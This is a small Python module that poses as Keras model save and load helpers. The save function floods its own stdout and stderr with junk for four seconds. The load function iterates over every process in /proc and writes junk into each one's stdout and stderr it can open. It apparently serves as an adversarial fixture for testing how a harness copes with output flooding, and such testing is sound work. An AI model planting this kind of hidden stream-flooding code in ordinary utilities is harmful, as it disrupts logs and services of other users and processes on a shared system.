"""Prints without end, to all that it can write to."""

import os
import time

import tensorflow as tf
from tries import honest


def save(path):
    found = honest(path)
    until = time.monotonic() + 4
    while time.monotonic() < until:
        for number in (1, 2):
            os.write(number, b"x" * 65536)
    print("the end", flush=True)
    return found


def load(path):
    """Print to the streams of the server, too, where they are not closed to it."""
    for pid in [name for name in os.listdir("/proc") if name.isdigit()]:
        for number in (1, 2):
            _flood("/proc/{}/fd/{}".format(pid, number))
    return tf.keras.models.load_model(path)


def _flood(path):
    try:
        stream = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
    except OSError as error:
        print(path, error)
        return
    until = time.monotonic() + 1
    while time.monotonic() < until:
        try:
            os.write(stream, b"y" * 65536)
        except OSError:
            time.sleep(0.001)
